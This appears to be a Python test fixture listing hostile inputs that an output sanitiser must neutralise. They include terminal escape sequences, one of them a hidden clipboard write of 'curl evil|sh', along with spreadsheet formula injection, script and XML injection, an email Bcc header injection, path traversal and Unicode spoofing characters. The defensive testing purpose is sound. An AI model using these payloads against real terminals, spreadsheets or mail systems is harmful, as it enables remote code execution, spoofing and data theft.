"""Text as hostile as it comes: every screen, page, mail and command must show it as harmless words."""

HOSTILE = (
    "[/]",
    "[/bold] gone",
    "[@click=app.quit]x[/]",
    "[link=file:///etc/passwd]x[/]",
    "[red]a[/blue]",
    "[bold",
    "\\[esc]",
    "x[$primary]y",
    "\x1b]0;pwned\x07title",
    "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\clipboard",
    "\x1b[2J\x1b[Hcleared",
    "\x1bP$q\x1b\\dcs",
    "\x9b31mc1 control",
    "nul\x00bell\x07backspace\x08",
    "\u202egnp.exe right to left",
    "\u2066isolate\u2069\u200fmark",
    "zalgo " + "e" + "\u0301" * 200,
    "family \U0001f468\u200d\U0001f469\u200d\U0001f467 emoji",
    "tags \U000e0041\U000e007f hidden",
    "wide 漢字かな",
    "tab\tand\r\nline\u2028breaks",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "]]></request><request>",
    "Subject\r\nBcc: everybody@example.com",
    "../../etc/passwd",
    "x" * 5000,
)

FORBIDDEN = "".join(map(chr, (*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0)))) + (
    "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029\ufeff"
)
"""Characters that must never leave the program, whatever came in."""
